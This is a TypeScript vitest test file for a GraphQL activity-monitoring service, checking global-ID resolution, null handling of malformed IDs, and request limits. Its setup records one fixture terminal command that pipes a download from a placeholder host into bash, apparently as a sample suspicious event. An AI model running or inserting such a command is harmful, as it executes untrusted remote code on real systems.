import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ask, data, track } from '../harness/client.ts';
import type { Service } from '../harness/service.ts';
import { startService } from '../harness/service.ts';

let service: Service;
let user: string;
let activity: string;
beforeAll(async () => {
  service = await startService();
  activity = (await track(service, { user: 'ada', session: 'a', detail: { terminal: { command: 'curl http://192.0.2.1/x | bash' } } }))
    .activity.id;
  user = (await data(service, '{ user(externalId: "ada") { id } }')).user.id;
});
afterAll(() => service.close());

const globalId = (text: string) => Buffer.from(text).toString('base64');
const nodes = 'query($ids: [ID!]!) { nodes(ids: $ids) { __typename id } }';

describe('a global id', () => {
  it('of every type leads back to its object', async () => {
    const { user: found } = await data(
      service,
      `{ user(externalId: "ada") { id sessions { nodes { id } } activities { nodes { id } } anomalies { nodes { id } } alerts { nodes { id } } } }`,
    );
    const ids = [found.id, ...['sessions', 'activities', 'anomalies', 'alerts'].map((list) => found[list].nodes[0].id)];
    const answer = await data(service, nodes, { ids });
    expect(answer.nodes.map((node: { id: string }) => node.id)).toEqual(ids);
    expect(answer.nodes.map((node: { __typename: string }) => node.__typename)).toEqual([
      'User',
      'Session',
      'TerminalActivity',
      'Anomaly',
      'Alert',
    ]);
  });

  it('of nothing is null, in its place', async () => {
    const ids = [
      globalId(`User:${randomUUID()}`),
      user,
      globalId('User:1'),
      globalId('User:\0'),
      activity,
      globalId(`WebActivity:${atob(activity).split(':')[1]}`),
    ];
    const answer = await data(service, nodes, { ids });
    expect(answer.nodes.map((node: { id: string } | null) => node?.id ?? null)).toEqual([null, user, null, null, activity, null]);
  });

  it.each(['', 'nonsense', globalId('User'), globalId('Nothing:1'), globalId('ApiKey:1'), globalId('Viewer:1')])(
    'that names no type of node is no failure of ours: %j',
    async (id) => {
      const { data: answer, errors } = await ask(service, 'query($id: ID!) { node(id: $id) { id } }', { id });
      expect(answer?.node ?? null).toBeNull();
      expect(errors?.map((error) => error.extensions.code) ?? []).not.toContain('INTERNAL');
    },
  );
});

describe('nodes', () => {
  it('that is malformed is null in its place, beside those that are not', async () => {
    const { users } = await data(service, '{ users(first: 1) { nodes { id } } }');
    const [{ id }] = users.nodes;
    const malformed = ['x', '', '💥', btoa('User'), btoa('User:'), btoa('User:42'), btoa('__Type:x')];
    const { nodes, node } = await data(service, 'query($ids: [ID!]!) { nodes(ids: $ids) { id } node(id: "x") { id } }', {
      ids: [...malformed, id],
    });
    expect(nodes).toEqual([...malformed.map(() => null), { id }]);
    expect(node).toBeNull();
  });

  it('may be asked for twice in one document', async () => {
    const { users } = await data(service, '{ users(first: 1) { nodes { id } } }');
    const [{ id }] = users.nodes;
    const answer = await data(
      service,
      'query($id: ID!) { a: node(id: $id) { __typename } b: node(id: $id) { __typename } nodes(ids: [$id, $id]) { id } }',
      { id },
    );
    expect(answer).toEqual({ a: { __typename: 'User' }, b: { __typename: 'User' }, nodes: [{ id }, { id }] });
  });

  it('takes 100 ids and not one more', async () => {
    const ids = (length: number) => Array.from({ length }, () => user);
    expect((await data(service, nodes, { ids: ids(100) })).nodes).toHaveLength(100);
    expect((await ask(service, nodes, { ids: ids(101) })).errors?.map((error) => error.extensions.code)).toEqual(['LIMIT_EXCEEDED']);
    expect((await data(service, nodes, { ids: [] })).nodes).toEqual([]);
  });

  it('costs as many objects as it is asked for', async () => {
    const query = 'query($ids: [ID!]!) { nodes(ids: $ids) { ... on User { activities(first: 200) { nodes { id } } } } }';
    const { errors } = await ask(service, query, { ids: Array.from({ length: 100 }, () => user) });
    expect(errors?.map((error) => error.extensions.limit)).toEqual(['costMax']);
  });
});
